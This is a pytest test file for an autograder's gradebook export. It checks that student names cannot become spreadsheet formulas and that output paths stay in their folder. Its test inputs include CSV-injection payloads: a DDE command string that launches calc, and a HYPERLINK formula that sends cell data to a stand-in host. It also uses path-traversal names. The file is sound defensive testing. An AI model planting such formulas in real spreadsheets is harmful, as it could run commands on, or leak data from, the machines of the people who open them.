"""Marks for other programs: read again as those programs read them; no text becomes a formula."""

import csv
import io
import json
import re
import sys
from dataclasses import replace
from pathlib import Path

import pytest
from grader_world import KEY
from made_up_class import MOST, POINTS, TITLE, graded_course

from autograder import commands, export
from autograder.class_marks import ClassMarks, class_marks
from autograder.course import Course
from autograder.spreadsheet import harmless, sheet

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="not run: the grader is for Linux")

FORMULAS = (
    "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1",
    "  =1+1", "\N{NO-BREAK SPACE}=1", "\N{ZERO WIDTH SPACE}=1", "\N{ZERO WIDTH NO-BREAK SPACE}=1",
    "＝1+1", "＋1", "－1+1", "＠x", "﹦1", "⁼1", "\N{MINUS SIGN}1+1", '"=1+1"',
    'Bobby;=HYPERLINK("http://x.example?"&A1)', "Bobby\t=1+1", "Bobby|=1+1", "Bobby\n=1+1",
    'x";=1+1', 'x, "=1+1"', "-1+1|x", "+-1", "=")
HARMLESS = ("ada", "李雷", "O'Brien", "Smith-Jones", "Ünal, Jr", "anna+se@uni.example", "x=1",
            "s-1234", "-12", "+4912345", "3.5", "", "a;b", "عمر", "'=1+1")
# What a spreadsheet may take for the beginning of a formula, written out apart from the code.
BEGINS = "=+-@\t\r\n\0＝＋－＠﹦﹢﹣﹫⁼⁺⁻₌₊₋−"
INVISIBLE = " \N{NO-BREAK SPACE}\N{ZERO WIDTH SPACE}\N{ZERO WIDTH NO-BREAK SPACE}\""


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    return graded_course(tmp_path_factory.mktemp("export"))


@pytest.fixture(scope="module")
def marks(course):
    return class_marks(course, KEY)


def could_run(cell: str) -> bool:
    """Whether a spreadsheet might take this cell for a formula; a signed number is one alone."""
    shown = cell.lstrip(INVISIBLE)
    return shown[:1] != "" and shown[0] in BEGINS and not re.fullmatch(r"[+-]?\d+(\.\d+)?|-", shown)


def cells(text: str) -> list[str]:
    """Every cell of a sheet, cut as programs of four languages would cut it."""
    return [cell for separator in ",;\t|"
            for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]


def named(marks: ClassMarks, text: str) -> ClassMarks:
    """The class with this text for everything that a student, or the gradebook, may bring."""
    students = tuple(replace(student, student=text, first_name=text, last_name=text, email=text,
                             lms_id=text) for student in marks.students)
    return replace(marks, students=students)


@pytest.mark.parametrize("name", export.SHEETS)
@pytest.mark.parametrize("text", FORMULAS, ids=repr)
def test_no_text_of_a_student_becomes_a_formula(marks, name, text):
    made = export.SHEETS[name](named(marks, text), text)
    assert [cell for cell in cells(made) if could_run(cell)] == []
    assert could_run(text) or any(map(could_run, re.split(r"[,;|\t\n]", text)))


@pytest.mark.parametrize("text", HARMLESS, ids=repr)
def test_ids_and_names_that_are_none_stay_as_they_are(text):
    assert harmless(text) == text
    ((cell, _),) = csv.reader(io.StringIO(sheet([[text, 1.0]])))
    assert cell == text


def table(text: str) -> list[dict[str, str]]:
    """A sheet as rows by the words of its head; every row is as long as the head."""
    rows = list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
    assert all(None not in row and None not in row.values() for row in rows)
    return rows


def test_canvas_finds_its_columns_the_points_possible_and_its_students(marks):
    text = export.canvas(marks, "SE (1234)")
    head = next(csv.reader(io.StringIO(text)))
    assert head == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "SE (1234)"]
    possible, *rows = table(text)
    assert (possible["Student"].strip(), possible["SE (1234)"]) == ("Points Possible", "5")
    found = {row["SIS Login ID"]: (row["Student"], row["ID"], row["SE (1234)"]) for row in rows}
    assert found["ben"] == ("Brown, jr, Ben", "4711", "2")
    assert found["zoe"] == ("Zoë", "", "")
    assert {name: mark for name, (_, _, mark) in found.items()} == {
        name: "" if points is None else f"{points:g}" for name, points in POINTS.items()}


def test_no_student_is_taken_for_the_row_of_points_possible(marks):
    for name in ("Points Possible", "x Points  Possible", "Points\tPossible", "Points\0Possible"):
        rows = table(export.canvas(named(marks, name), "SE"))
        assert ["Points Possible" in row["Student"] for row in rows] == [True] + 6 * [False]


def test_moodle_finds_who_it_is_by_email_or_number(marks):
    rows = {row["Username"]: row for row in table(export.moodle(marks, TITLE))}
    assert rows["ben"] == {"First name": "Ben", "Last name": "Brown, jr", "Username": "ben",
                           "ID number": "4711", "Email address": "ben@uni.example", TITLE: "2"}
    assert rows["anna"]["ID number"] == "anna"
    assert rows["zoe"][TITLE] == "-"


def test_a_spreadsheet_has_every_task(marks):
    text = export.spreadsheet(marks, TITLE)
    assert text.startswith("\ufeff")
    rows = {row["student"]: row for row in table(text.removeprefix("\ufeff"))}
    assert [rows["chloe"][name] for name in MOST] == ["0", "0", "1.5"]
    assert (rows["chloe"]["could not run"], rows["chloe"]["waiting for a person"]) == (
        "scale", "scale")
    assert (rows["anna"][TITLE], rows["anna"]["scale"], rows["anna"]["of"]) == ("5.25", "2.25", "5")
    assert rows["ben"]["submitted (UTC)"] == "2026-03-04T05:06:07"
    assert rows["zoe"][TITLE] == rows["zoe"]["mean"] == ""


def test_a_late_penalty_counts_everywhere(marks):
    ben = next(student for student in marks.students if student.student == "ben")
    late = replace(marks, students=(replace(ben, points=1.5, penalty=0.5),))
    (row,) = table(export.spreadsheet(late, TITLE).removeprefix("\ufeff"))
    assert (row[TITLE], row["late penalty"]) == ("1.5", "0.5")
    results = export.gradescope(late, late.students[0])
    assert results["score"] == 1.5
    assert "Late penalty: 0.5 points" in results["output"]


# Keys and values that Gradescope documents for results.json.
TOP = {"score", "max_score", "execution_time", "output", "output_format", "visibility",
       "stdout_visibility", "tests", "extra_data"}
TEST = {"score", "max_score", "status", "name", "number", "output", "output_format", "tags",
        "visibility"}


def test_gradescope_reads_the_results(marks):
    for student in marks.handed_in:
        results = json.loads(json.dumps(export.gradescope(marks, student)))
        assert set(results) == TOP
        assert results["score"] == POINTS[student.student]
        assert results["visibility"] in ("visible", "hidden", "after_due_date", "after_published")
        for test in results["tests"]:
            assert set(test) - {"status"} == TEST - {"status"}
            assert test.get("status", "passed") in ("passed", "failed")
            assert type(test["score"]) is type(test["max_score"]) is float
    chloe = next(student for student in marks.students if student.student == "chloe")
    mean, scale, _ = export.gradescope(marks, chloe)["tests"]
    assert (mean["status"], mean["output"]) == ("failed", "the shape of the mean")
    assert "status" not in scale, "what could not be run did not fail"
    assert scale["tags"] == ["could not run"]


def run(course: Course, capsys, *options: str) -> tuple[int, dict, str]:
    code = commands.main(["export", KEY, "--root", str(course.root), "--course",
                          str(course.folder), "--json", *options])
    heard = capsys.readouterr()
    return code, json.loads(heard.out), heard.err


def test_the_verb_writes_all_forms_or_those_asked_for(course, capsys, tmp_path):
    assert tuple(commands.FORMATS) == (*export.SHEETS, "gradescope")
    code, document, heard = run(course, capsys)
    assert (code, document["exit_code"], heard) == (0, 0, "")
    folder = course.folder / "export" / KEY
    assert {Path(path).relative_to(folder).as_posix() for path in document["files"]} == {
        "canvas.csv", "moodle.csv", "spreadsheet.csv",
        *(f"gradescope/{name}/results.json" for name in POINTS if name != "zoe")}
    _, document, _ = run(course, capsys, "--format", "canvas", "--only", "ben", "--to",
                         str(tmp_path))
    assert document["files"] == [str(tmp_path / "canvas.csv")]
    assert len(table((tmp_path / "canvas.csv").read_text("utf-8"))) == 2


def test_an_id_that_had_to_be_changed_is_told(marks):
    assert export.changed_ids(marks) == []
    assert export.changed_ids(named(marks, "=1+1")) == ["=1+1"] * 6


@pytest.mark.parametrize("name", ["../out", "..", ".", "a/b", "/etc/x"])
def test_results_stay_in_their_folder(marks, tmp_path, name):
    written = export.write(named(marks, name).only(name), tmp_path, ["gradescope"], TITLE)
    for path in written:
        assert path.resolve().is_relative_to(tmp_path / "gradescope")
        assert len(path.relative_to(tmp_path).parts) == 3
